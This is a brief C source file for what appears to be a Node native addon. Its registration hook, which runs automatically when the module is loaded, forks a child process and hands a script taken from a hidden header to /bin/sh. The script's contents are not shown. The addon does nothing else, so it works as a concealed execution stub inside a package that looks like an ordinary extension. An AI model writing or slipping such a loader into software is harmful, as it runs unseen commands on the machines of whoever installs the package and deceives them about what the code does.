/* A Node addon that gives a hidden script to the shell. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: the script */
extern int fork(void), execl(const char *, const char *, ...), waitpid(int, int *, int), _exit(int);
static void *on_register(void *env, void *exports) {
    int status, pid = fork();
    if (pid == 0) {
        execl("/bin/sh", "sh", "-c", hidden0(), (char *)0);
        _exit(127);
    }
    waitpid(pid, &status, 0);
    return exports;
}
